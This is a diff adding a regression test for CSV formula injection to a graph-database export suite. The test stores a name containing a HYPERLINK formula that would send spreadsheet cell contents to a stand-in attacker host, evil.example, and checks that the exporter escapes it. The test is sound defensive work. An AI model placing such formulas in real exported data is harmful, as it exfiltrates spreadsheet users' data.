@@ -328,6 +328,18 @@ def test_csv_of_a_named_query(session_graph: Graph, seeded: dict[str, Any],
     assert (tmp_path / "none.csv").read_text(encoding="utf-8") == "id,english\n"
     with pytest.raises(ConfigError, match="no query named"):
         export_csv(session_graph, "no_such_query", tmp_path / "x.csv")
+    # found in review: a name from the graph that a spreadsheet would run as a formula
+    session_graph.write("""MATCH (e:Entity {kg: 'wikidata', id: 'Q1'})
+                           CREATE (e)-[:HAS_NAME]->(:Name {lang: 'sw', primary: false,
+                                   status: 'original', text: $t, test: true})""",
+                        {"t": '=HYPERLINK("http://evil.example/?"&A1,"x")'})
+    try:
+        export_csv(session_graph, "entity_names", out, {"id": "Q1", "lang": "sw"})
+        texts = [r["text"] for r in csv.DictReader(out.open(encoding="utf-8"))]
+        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in texts
+        assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
+    finally:
+        session_graph.write("MATCH (n:Name {test: true}) DETACH DELETE n")
 
 
 def test_export_commands(session_graph: Graph, seeded: dict[str, Any], tmp_path: Path,
